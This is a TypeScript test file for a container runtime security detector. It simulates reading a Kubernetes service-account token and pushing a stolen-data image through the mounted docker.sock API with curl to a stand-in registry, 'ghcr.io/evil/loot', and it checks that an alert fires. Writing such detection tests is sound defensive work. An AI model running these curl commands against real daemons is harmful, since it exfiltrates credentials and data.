/**
 * An image push asked of the node's docker daemon through its API, not its CLI (found by red-team review):
 * with docker.sock mounted, `curl --unix-socket /var/run/docker.sock -X POST
 * http://localhost/images/REF/push` has the daemon upload an image the pod loaded with stolen files. No
 * `docker` process ran and the bytes left from the host, so nothing was raised. It is a `docker` push now,
 * bridged to the daemon's upload like the CLI's.
 */
import { describe, expect, it } from 'vitest';
import { brief, MiB, run, Scenario } from './builder.js';

const SOCKET = '--unix-socket /var/run/docker.sock';

describe('image push through the engine API', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`curl to docker.sock's /images/REF/push after reading a token is high, linked to the daemon's upload (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'ci', pod: 'jenkins-agent-1', name: 'jnlp' });
      const sh = s.init(c);
      s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 1_100).wait(1_000);
      const load = s.exec(
        c,
        '/usr/bin/curl',
        `${SOCKET} -X POST --data-binary @/tmp/l.tar http://localhost/images/load`,
        {
          parent: sh,
        },
      );
      s.read(load, '/tmp/l.tar', 20_480).wait(300).exit(load).wait(200);
      const push = s.exec(
        c,
        '/usr/bin/curl',
        `${SOCKET} -X POST -H "X-Registry-Auth: e30=" http://localhost/v1.43/images/ghcr.io/evil/loot/push?tag=1`,
        { parent: sh },
      );
      const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
      s.wait(300)
        .connect(dockerd, '140.82.121.34', 443)
        .send(dockerd, '140.82.121.34', 443, MiB / 4);
      s.wait(500).exit(push);
      const alerts = run(s.events).alerts;
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: 'ghcr.io' },
      ]);
      expect(alerts[0]!.push.remote).toBe('ghcr.io/evil/loot:1');
      expect(alerts[0]!.evidence.some((e) => e.kind === 'bridge-egress')).toBe(true);
    });
  }

  it("the engine's other calls (list, pull, inspect) are no push", () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'agent-2', name: 'jnlp' });
    const sh = s.init(c);
    s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 1_100);
    for (const args of [
      `${SOCKET} http://localhost/v1.43/images/json`,
      `${SOCKET} -X POST "http://localhost/v1.43/images/create?fromImage=ghcr.io/acme/app&tag=1"`,
      `${SOCKET} http://localhost/v1.43/images/ghcr.io/acme/app:1/json`,
    ]) {
      const p = s.exec(c, '/usr/bin/curl', args, { parent: sh });
      s.wait(100).exit(p);
    }
    expect(run(s.events).alerts).toEqual([]);
  });
});
